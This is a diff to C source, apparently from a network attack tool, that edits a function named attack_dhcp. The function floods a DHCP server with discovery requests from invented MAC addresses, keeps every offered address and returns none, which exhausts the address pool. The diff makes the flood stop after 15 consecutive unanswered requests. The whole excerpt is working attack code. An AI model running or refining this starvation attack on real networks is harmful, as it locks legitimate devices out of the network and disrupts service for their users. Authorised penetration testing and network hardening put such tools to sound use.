@@ -407,8 +407,11 @@ dhcp_send(const struct wire *wire, const uint8_t mac[static ETH_ALEN], uint32_t 
 
 /*
  * dhcp INTERFACE COUNT SECONDS: asks for an address in the name of one invented
- * MAC after the other, takes each that is offered, and gives none back.
+ * MAC after the other, takes each that is offered, and gives none back.  Ends
+ * when so many in a row had no answer: there are none left, or not for us.
  */
+enum { DHCP_UNANSWERED_MAX = 15 };
+
 static int
 attack_dhcp(char **word)
 {
@@ -417,7 +420,7 @@ attack_dhcp(char **word)
 	int64_t end_ms = now_ms() + seconds_of(word[2]) * ONE_SECOND_MS;
 	struct tally tally = {0};
 	struct wire wire;
-	int on = 1;
+	int on = 1, unanswered = 0;
 	int fd;
 
 	wire_open(&wire, word[0]);
@@ -429,7 +432,7 @@ attack_dhcp(char **word)
 		perror("port 68");
 		return 1;
 	}
-	while (tally.sent < count && now_ms() < end_ms) {
+	while (tally.sent < count && now_ms() < end_ms && unanswered < DHCP_UNANSWERED_MAX) {
 		int64_t patience_ms = now_ms() + 300;
 		uint8_t mac[ETH_ALEN];
 		struct dhcp in;
@@ -441,11 +444,13 @@ attack_dhcp(char **word)
 		mac[0] = 2;
 		dhcp_send(&wire, mac, xid, DHCP_DISCOVER, (struct in_addr){0}, (struct in_addr){0});
 		tally_add(&tally);
+		unanswered++;
 		while (readable(fd, patience_ms)) {
 			ssize_t len = recv(fd, &in, sizeof in, 0);
 
 			if (len < (ssize_t)offsetof(struct dhcp, options) + 3 || in.xid != xid)
 				continue;
+			unanswered = 0;
 			if (in.options[2] == DHCP_OFFER) {
 				struct in_addr server;
 
